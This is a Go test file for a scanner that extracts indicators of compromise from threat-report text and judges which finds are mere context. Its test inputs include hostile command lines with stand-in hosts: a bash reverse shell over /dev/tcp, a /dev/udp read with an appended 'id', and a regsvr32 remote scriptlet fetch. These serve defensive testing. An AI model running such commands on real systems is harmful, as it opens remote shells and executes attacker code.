package scan

import (
	"fmt"
	"strings"
	"testing"
)

// whyCase is a text with one find, and why it is no indicator ("" when it is one).
type whyCase struct{ text, find, why string }

// checkWhy holds the first find of each text, and how it is judged.
func checkWhy(t *testing.T, cases []whyCase) {
	t.Helper()
	for _, c := range cases {
		found := Find(c.text)
		if len(found) == 0 {
			if c.find != "" {
				t.Errorf("in %q: nothing is found; want %s", c.text, c.find)
			}
			continue
		}
		f := found[0]
		if got := string(f.Thing.Kind) + " " + f.Thing.Value; got != c.find || f.Why != c.why || f.Context != (c.why != "") {
			t.Errorf("in %q: %s, context %v %q; want %q %q", c.text, got, f.Context, f.Why, c.find, c.why)
		}
	}
}

// TestLinksToRead holds which links are there to be read.
func TestLinksToRead(t *testing.T) {
	checkWhy(t, []whyCase{
		{"It fetches http://evil.example/a", "url http://evil.example/a", ""},
		{"It fetches https://evil.example/a", "url https://evil.example/a", ""},
		{"See https://evil.example/a", "url https://evil.example/a", "link"},
		{"Read more at https://evil.example/a", "url https://evil.example/a", "link"},
		{"Reference: https://evil.example/a", "url https://evil.example/a", "link"},
		{"See hxxps://evil.example/a", "url https://evil.example/a", ""},
		{"See http://evil.example/a", "url http://evil.example/a", ""}, // publishers have https
		{"See the server https://evil.example/a", "url https://evil.example/a", ""},
		{"Our blog: https://vendor.example/x\nC2: evil[.]example", "url https://vendor.example/x", "link"},
		{"https://vendor.example/2026/11/24/a", "url https://vendor.example/2026/11/24/a", "link"},
		{"https://vendor.example/a-look-at-the-lantern-group", "url https://vendor.example/a-look-at-the-lantern-group", "link"},
		{"https://vendor.example/a-look-at-it", "url https://vendor.example/a-look-at-it", ""},
		{"https://code.example/team/tool/commit/abc123", "url https://code.example/team/tool/commit/abc123", "link"},
		{"https://code.example/team/tool/issues/12", "url https://code.example/team/tool/issues/12", "link"},
		{"https://www.virustotal.com/gui/file/x", "url https://www.virustotal.com/gui/file/x", "link"},
		{"https://attack.mitre.org/techniques/T1059", "url https://attack.mitre.org/techniques/T1059", "link"},
		{"https://evil.example/mitre.org", "url https://evil.example/mitre.org", ""},
		{"https://notmitre.org/x", "url https://notmitre.org/x", ""},
		{"at https://vendor.example/x we say that evil[.]example is bad", "url https://vendor.example/x", "link"}, // who defangs one defangs all
		{"at https://vendor.example/x we say that evil.example is bad", "url https://vendor.example/x", ""},
		{"u = \"https://evil.example/x\" # bad[.]example", "url https://evil.example/x", ""}, // code, not prose
		{"https://evil.example/x\nbad[.]example\n", "url https://evil.example/x", ""},        // a list, not prose
		{"from https://evil.example/x came bad[.]example", "url https://evil.example/x", ""},
		{"image registry.example/a/b@sha256:" + sha256A, "url http://registry.example/a/b", "image"},
	})
}

// TestMailboxesOfOthers holds whose mailbox is no indicator.
func TestMailboxesOfOthers(t *testing.T) {
	checkWhy(t, []whyCase{
		{"ransom note of a@evil.example", "email a@evil.example", ""},
		{"report to abuse@isp.example", "email abuse@isp.example", "contact"},
		{"report to abuse[at]isp[.]example", "email abuse@isp.example", ""},
		{"write to PRESS@vendor.example", "email press@vendor.example", "contact"},
		{"The victim jane@bank.example clicked", "email jane@bank.example", "victim"},
		{"The victim clicked. Then a@evil.example wrote", "email a@evil.example", ""},
		{"Cc: jane@bank.example", "email jane@bank.example", "victim"},
		{"Delivered-To: jane@bank.example", "email jane@bank.example", "victim"},
		{"From: a@evil.example", "email a@evil.example", ""},
		{"Reply-To: a@evil.example", "email a@evil.example", ""},
		{"\"to\": \"jane@bank.example\"", "email jane@bank.example", ""},
		{"An: jane@bank.example", "email jane@bank.example", "victim"},
		{"it was sent to jane@bank.example", "email jane@bank.example", "victim"},
		{"it was delivered to <jane@bank.example>", "email jane@bank.example", "victim"},
		{"data goes to a@evil.example", "email a@evil.example", ""},
	})
	found := Find("from a@evil.example to jane@bank.example")
	if len(found) != 2 || found[0].Context || found[1].Why != "victim" {
		t.Errorf("from and to give %+v", found)
	}
}

// TestPathsOfTheSystem holds which paths are no place of malware.
func TestPathsOfTheSystem(t *testing.T) {
	checkWhy(t, []whyCase{
		{`C:\Windows\System32\cmd.exe`, `path C:\Windows\System32\cmd.exe`, "system"},
		{`C:\Windows\System32\evil.exe`, `path C:\Windows\System32\evil.exe`, ""},
		{`C:\Users\Public\cmd.exe`, `path C:\Users\Public\cmd.exe`, ""}, // a program of the system elsewhere is a disguise
		{`%WINDIR%\System32\rundll32.exe`, `path %WINDIR%\System32\rundll32.exe`, "system"},
		{"/usr/bin/curl", "path /usr/bin/curl", "system"},
		{"/usr/bin/.curl", "path /usr/bin/.curl", ""},
		{"/tmp/bash", "path /tmp/bash", ""},
		{"/etc/passwd", "path /etc/passwd", "system"},
		{"/dev/null", "path /dev/null", "system"},
		{"/dev/shm/x", "path /dev/shm/x", ""},
		{"/proc/self/maps", "path /proc/self/maps", "system"},
		{`D:\src\evil\Release\evil.pdb`, `path D:\src\evil\Release\evil.pdb`, "build"},
		{`C:\Users\[name]\a.exe`, `path C:\Users\[name]\a.exe`, "placeholder"},
		{`C:\Temp\%RANDOM%.exe`, `path C:\Temp\%RANDOM%.exe`, "placeholder"},
		{`HKLM\Software\...\Run`, `registry HKEY_LOCAL_MACHINE\Software\...\Run`, "placeholder"},
		{"setup.exe", "filename setup.exe", "file"},
		{"a setup.py script", "filename setup.py", "file"},
		{`C:\`, "", ""}, {`C:\Temp\`, "", ""}, {"/tmp/", "", ""}, {"/var/tmp", "", ""}, {"/usr/local/bin", "", ""}, {"cd /opt/evil", "", ""}, {"pushd /opt/evil", "", ""}, {"chdir /opt/evil", "", ""},
		{"abcd /opt/evil", "path /opt/evil", ""}, {"and/or", "", ""}, {"/etc", "", ""}, {"GET /tmp/x.sh HTTP/1.1", "", ""}, {"#!/bin/bash", "", ""}, {"PS C:\\Users\\x> dir", "", ""},
	})
}

// TestNamesInCode holds what in programs looks like a host and is none.
func TestNamesInCode(t *testing.T) {
	for _, s := range []string{"this.name", "user.id", "app.run()", "connect(opts.host)", "f(conn.stream)", "window.location.host", "self.name, self.id", "obj.Method.call", "System.Net.Sockets", "com.vendor.app", "org.apache.http.client", "e.target.id", "document.body.style", "item.link", "config.host)", "foo.bar.name: \"x\"", "x.to.name:'y'", "import os.path.so", "MyClass.java", "lib.rs", "p.name", "A.It", "done.So we", "e.g.", "i.e. it", "U.S.A", "p.m.", "$env.name", "&x.name", "a.b[0]", "x.call(y)", "name=1.me"} {
		if got := indicators("and then " + s + " in the loop"); len(got) > 0 {
			t.Errorf("%q gives %v", s, got)
		}
	}
	for _, s := range []string{"evil.site", "c2: evil.name", "(evil-7.live)", "connect('evil.host')", "host=evil.live", "evil.zone:443", "evil.name resolves", "f(\"bad.stream\")", "see (evil.click)"} {
		if got := indicators(s); len(got) != 1 {
			t.Errorf("%q gives %v; want one host", s, got)
		}
	}
}

// TestSocketsOfShells holds the connections of bash, which look like paths.
func TestSocketsOfShells(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "ipv4 203.0.113.5"},
		{"exec 5<>/dev/tcp/evil.example/443", "domain evil.example"},
		{"exec 5<> /dev/tcp/evil.example/443", "domain evil.example"},
		{"cat < /dev/udp/203.0.113.5/53;id", "ipv4 203.0.113.5"},
		{"/dev/tcp/203.0.113[.]5/80", "ipv4 203.0.113.5"},
		{"/dev/tcp/127.0.0.1/80", ""},
		{"/dev/tcp/$HOST/$PORT", ""},
		{"/dev/tcp/localhost/80", ""},
		{"/dev/tcp/", ""},
		{"/dev/tcp/evil.nosuchsuffix/1", ""},
	})
}

// TestOptionsWithValues holds values that stand right behind an option.
func TestOptionsWithValues(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"regsvr32 /s /i:http://evil.example/a.sct scrobj.dll", "url http://evil.example/a.sct"},
		{"tool /server:evil.example /port:80", "domain evil.example"},
		{"tool /ip:203.0.113.5", "ipv4 203.0.113.5"},
		{"tool /out:C:\\Temp\\a.exe", `path C:\Temp\a.exe`},
		{"tool -u http://evil.example/a --ip=203.0.113.5", "url http://evil.example/a|ipv4 203.0.113.5"},
		{"route /index.php: see", ""},
		{"/a:/b", ""},
	})
}

// TestPacketsInRules holds names as they stand in a packet, each label behind its length.
func TestPacketsInRules(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{`content:"|04|evil|07|example|00|"`, "domain evil.example"},
		{`content:"|03|www|04|evil|07|example|00|"`, "domain www.evil.example"},
		{`content:"evil|2e|example"`, "domain evil.example"},
		{`content:"evil|06|example"`, ""}, // the length is another's
		{`content:"evil|00|example"`, ""},
		{`content:"evil|zz|example"`, ""},
		{"evil|example", ""},
		{"a|07|example", "domain a.example"},
		{"| 07 | example |", ""},
	})
}

// TestEmphasis holds underscores of Markdown round values, and of names that have them.
func TestEmphasis(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"_203.0.113.5_ and __203.0.113.6__", "ipv4 203.0.113.5|ipv4 203.0.113.6"},
		{"_evil.example_ and __bad.example__", "domain evil.example|domain bad.example"},
		{"___evil.example___", "domain evil.example"},
		{"_http://evil.example/a_", "url http://evil.example/a"},
		{"*203.0.113.5* **203.0.113.6** ~~203.0.113.7~~", "ipv4 203.0.113.5|ipv4 203.0.113.6|ipv4 203.0.113.7"},
		{"_dmarc.evil.example and _acme-challenge.evil.example", "domain _dmarc.evil.example|domain _acme-challenge.evil.example"},
		{"x_203.0.113.5", ""},
		{"203.0.113.5_x", ""},
		{"a_b.evil.example", "domain a_b.evil.example"},
		{strings.Repeat("_", 1000) + "203.0.113.5", ""},
	})
}

// TestLinesOfResolvers holds the settings of dnsmasq.
func TestLinesOfResolvers(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"address=/evil.example/0.0.0.0", "domain evil.example"},
		{"address=/evil.example/", "domain evil.example"},
		{"address=/evil.example/bad.example/#", "domain evil.example|domain bad.example"},
		{"server=/evil.example/", "domain evil.example"},
		{"local=/evil.example/", "domain evil.example"},
		{"x=/evil.example/", ""},
		{"href=/a.example/b", ""},
	})
}

// TestFieldsOfSecrets holds that what somebody used for a password is no address.
func TestFieldsOfSecrets(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{`{"password":"1.2.3.4","ip":"203.0.113.5"}`, "ipv4 203.0.113.5"},
		{"password=9.8.7.6", ""},
		{"user: 9.8.7.6", ""},
		{"'pass' : '9.8.7.6'", ""},
		{`{"src":"9.8.7.6"}`, "ipv4 9.8.7.6"},
		{"password was changed from 9.8.7.6", "ipv4 9.8.7.6"},
	})
}

// TestHeadersOfSensors holds the version in the head of CEF and LEEF.
func TestHeadersOfSensors(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"CEF:0|Acme|P|19.1.0.2|100|n|5|src=203.0.113.5", "ipv4 203.0.113.5"},
		{"<14>Nov 24 host CEF:0|Acme|P|119.1.0.2|100|n|5|dst=203.0.113.5", "ipv4 203.0.113.5"},
		{"LEEF:1.0|Acme|P|119.1.0.2|id|src=203.0.113.5", "ipv4 203.0.113.5"},
		{"a|b|c|119.1.0.2|d", "ipv4 119.1.0.2"},
		{"CEF:0|Acme|119.1.0.2|1|100|n|5|x=y", "ipv4 119.1.0.2"},
	})
}

// TestObjectsBeforeHashes holds which words make a hash one of something else
// than a file.
func TestObjectsBeforeHashes(t *testing.T) {
	for text, want := range map[string]int{
		"commit " + sha1A: 0, "git checkout " + sha1A: 0, "tree " + sha1A + "\nparent " + sha1A: 0, "tx " + sha256A: 0, "transaction id: " + sha256A: 0, "serial number " + md5A: 0, "guid " + md5A: 0, "ETag: " + md5A: 0, "nonce=" + md5A: 0,
		"commit. " + sha1A: 1, "sha1 " + sha1A: 1, `{"uuid":"0f3a7c1e-7f0a-4c6b-9c62-5f6f4d1b9a01","value":"evil.example","type":"md5","v":"` + md5A + `"}`: 2, "commit hash (SHA-1): " + sha1A: 0,
		"sessionid=" + md5A: 0, "PHPSESSID=" + md5A: 0, "csrf_token=" + md5A: 0, "api_key=" + md5A: 0, "hash=" + md5A: 1, "md5=" + md5A: 1, "/static/" + md5A: 0,
	} {
		if got := indicators(text); len(got) != want {
			t.Errorf("%q gives %v; want %d", text, got, want)
		}
	}
}

// TestKindsOfHashesByWords holds that a hash of 32 digits is what the words call it.
func TestKindsOfHashesByWords(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"MD5 " + md5A, "md5 " + md5A},
		{"imphash " + md5A, "imphash " + md5A},
		{"Import-Hash: " + md5A, "imphash " + md5A},
		{"JA3: " + md5A, "ja3 " + md5A},
		{"ja3s=" + md5A, "ja3 " + md5A},
		{"imphash " + md5A + " md5 " + md5B, "imphash " + md5A + "|md5 " + md5B},
		{"## Imphashes\n\n- " + md5A + "\n- " + md5B + "\n", "imphash " + md5A + "|imphash " + md5B},
		{"JA3:\n" + md5A + "\n", "ja3 " + md5A},
		{"imphash " + sha256A, "sha256 " + sha256A},
		{"imphash is given below.\n" + md5A, "md5 " + md5A},
	})
}

// TestNamesOfMutexes holds the names that follow the word, and those that don't.
func TestNamesOfMutexes(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{`creates the mutex "Lantern_7"`, "mutex Lantern_7"},
		{"mutex: Lantern_7, then", "mutex Lantern_7"},
		{"Mutex = 'My Mutex 1'", "mutex My Mutex 1"},
		{"mutex named `L4ntern`", "mutex L4ntern"},
		{"mutex name is “L4ntern”", "mutex L4ntern"},
		{"the mutex is created", ""},
		{"a mutex: none", ""},
		{"mutex: abc", ""},
		{`Global\L4 and Local\L5`, `mutex Global\L4|mutex Local\L5`},
		{`Global\\L4`, `mutex Global\L4`},
		{"### Mutexes\n\n- first_one\n- Second 2\n", "mutex first_one|mutex Second 2"},
		{"Mutex:\n  abc\n", "mutex abc"},
	})
}

// TestKeysAndTheirEnds holds where registry keys end.
func TestKeysAndTheirEnds(t *testing.T) {
	const run = `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`
	wantValues(t, []struct{ text, want string }{
		{`HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "registry " + run},
		{`HKCU\Software\Microsoft\Windows\CurrentVersion\Run.`, "registry " + run},
		{`"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"`, "registry " + run},
		{`[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]`, "registry " + run},
		{`HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`, "registry " + run},
		{`hkcu\Software\Microsoft\Windows\CurrentVersion\Run and more`, "registry " + run},
		{`HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, "registry " + run},
		{`HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon`, `registry HKEY_LOCAL_MACHINE\Software\Microsoft\Windows NT\CurrentVersion\Winlogon`},
		{"HKCU", ""}, {"HKLM is a hive", ""}, {`XHKCU\Software\A`, ""}, {`HKXX\Software\A`, ""},
	})
}

// TestCodesAndNumbers holds CVE, ATT&CK and AS numbers at their limits.
func TestCodesAndNumbers(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"CVE-2026-0001", "cve CVE-2026-0001"}, {"CVE-2026-001", ""}, {"CVE-1998-0001", ""}, {"CVE 2026 1234", "cve CVE-2026-1234"}, {"XCVE-2026-1234", ""}, {"cve_2026_1234", "cve CVE-2026-1234"}, {"CVE-2026-1234/5678", "cve CVE-2026-1234"},
		{"T1059", "attack T1059"}, {"T0801", "attack T0801"}, {"T0799", ""}, {"T2000", ""}, {"T105", ""}, {"T10590", ""}, {"T1059.0011", ""}, {"t1059", ""}, {"TA0001", "attack TA0001"}, {"TA1001", ""}, {"xT1059", ""}, {"attack.t1059.001", "attack T1059.001"}, {"attack.initial_access", ""},
		{"AS0", ""}, {"AS10", "asn AS10"}, {"AS4294967295", "asn AS4294967295"}, {"AS4294967296", ""},
	})
}

// TestWalletsInText holds that only addresses whose checksum holds count.
func TestWalletsInText(t *testing.T) {
	const good = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
	wantValues(t, []struct{ text, want string }{
		{"pay " + good + ".", "btc " + good}, {"bitcoin:" + good, "btc " + good}, {good[:33] + "b", ""}, {"x" + good, ""}, {good + "x", ""}, {strings.ToLower(good), ""},
		{"0xde709f2102306220921060314715629080e2fb77", "eth 0xde709f2102306220921060314715629080e2fb77"}, {"0xde709f2102306220921060314715629080e2fb7", ""}, {"0xDe709f2102306220921060314715629080e2fb77", ""},
		{onionV3, "onion " + onionV3}, {"x" + onionV3, ""}, {"www." + onionV3, "onion www." + onionV3}, {strings.Replace(onionV3, "6", "7", 1), ""}, {strings.ToUpper(onionV3), "onion " + onionV3},
	})
}

// TestPlacesOfWrapped holds that a value over two lines has its place over both.
func TestPlacesOfWrapped(t *testing.T) {
	for written, value := range map[string]string{
		sha256A[:40] + "\n" + sha256A[40:]:                      "sha256 " + sha256A,
		"evil[.]\nexample":                                      "domain evil.example",
		"http://evil.example/a/long/path/to/\nthe-file.php?x=1": "url http://evil.example/a/long/path/to/the-file.php?x=1",
		"CVE-2026-\n1234":                                       "cve CVE-2026-1234",
		"a@\nevil.example":                                      "email a@evil.example",
	} {
		text := "See: " + written + "\nend"
		found := Find(text)
		if len(found) != 1 || text[found[0].Start:found[0].End] != written || fmt.Sprintf("%s %s", found[0].Thing.Kind, found[0].Thing.Value) != value {
			t.Errorf("%q gives %+v", text, found)
		}
	}
}

// TestAddressesOfCaptures holds addresses with a port behind a fifth dot.
func TestAddressesOfCaptures(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"IP 203.0.113.5.49712 > 198.51.100.7.443: Flags [S]", "ipv4 203.0.113.5|ipv4 198.51.100.7"},
		{"IP 10.0.0.5.49712 > 198.51.100.7.443:", "ipv4 10.0.0.5|ipv4 198.51.100.7"},
		{"203.0.113.5.443", ""},
		{"IP 127.0.0.1.80 > 198.51.100.7.443", "ipv4 198.51.100.7"},
		{"1.3.6.1.4 > x", "ipv4 1.3.6.1"},
		{"256.1.1.1.4 > x", ""},
		{"203.0.113.5.123456 > x", ""},
		{"1.3.6.1.4.1 > x", ""},
	})
}

// TestPinnedVersions holds requirements and filters, which look alike.
func TestPinnedVersions(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"dnspython==2.4.2.1", ""}, {"lib>=2.4.2.1", ""}, {"lib~=2.4.2.1", ""}, {"lib<=2.4.2.1", ""},
		{"ip.addr==9.8.7.6", "ipv4 9.8.7.6"}, {"ip==9.8.7.6", "ipv4 9.8.7.6"}, {"ip.src == 9.8.7.6", "ipv4 9.8.7.6"}, {"dst=9.8.7.6", "ipv4 9.8.7.6"}, {"x==203.0.113.5", "ipv4 203.0.113.5"},
	})
}

// TestNumberedHeadings holds that a heading begins with the number of a section.
func TestNumberedHeadings(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"## 4.2.1.9 (2026-11-20)", ""}, {"#### 4.2.1.9 Scope", ""}, {"== 4.2.1.9", ""}, {"## [4.2.1.9] - 2026", ""}, {"# v4.2.1.9", ""},
		{"## 203.0.113.5", "ipv4 203.0.113.5"}, {"4.2.1.9", "ipv4 4.2.1.9"}, {"- 4.2.1.9", "ipv4 4.2.1.9"}, {"## C2 at 4.2.1.9", "ipv4 4.2.1.9"},
	})
}

// TestPathsBesideOtherScripts holds that a path may stand right behind a word or
// sign of a script without spaces, and not inside a word of another.
func TestPathsBesideOtherScripts(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"文件在/tmp/a.sh。", "path /tmp/a.sh"},
		{"文件：/tmp/a.sh", "path /tmp/a.sh"},
		{"“/tmp/a.sh”", "path /tmp/a.sh"},
		{"\ufeff/tmp/a.sh", "path /tmp/a.sh"},
		{"für/tmp/a.sh", ""},
		{"да/tmp/a.sh", ""},
		{"ü/tmp/a.sh", ""},
	})
}

// TestMasksOfRouters holds ranges whose mask is written as an address.
func TestMasksOfRouters(t *testing.T) {
	wantValues(t, []struct{ text, want string }{
		{"203.0.113.0/255.255.255.0", "cidr 203.0.113.0/24"},
		{"203.0.113.64/255.255.255.192 and more", "cidr 203.0.113.64/26"},
		{"deny 203.0.113.64/255.255.255.192.", "cidr 203.0.113.64/26"},
		{"203[.]0[.]113[.]0/255.255.255.0", "cidr 203.0.113.0/24"},
		{"203.0.113.5/255.255.255.255", "ipv4 203.0.113.5"},
		{"203.0.113.5/255.0.255.0", "ipv4 203.0.113.5"}, // no mask: the ones don't stand together
		{"203.0.113.5/255.x", "url http://203.0.113.5/255.x"},
		{"203.0.113.5/255.255.255.0/a", "url http://203.0.113.5/255.255.255.0/a"},
	})
}
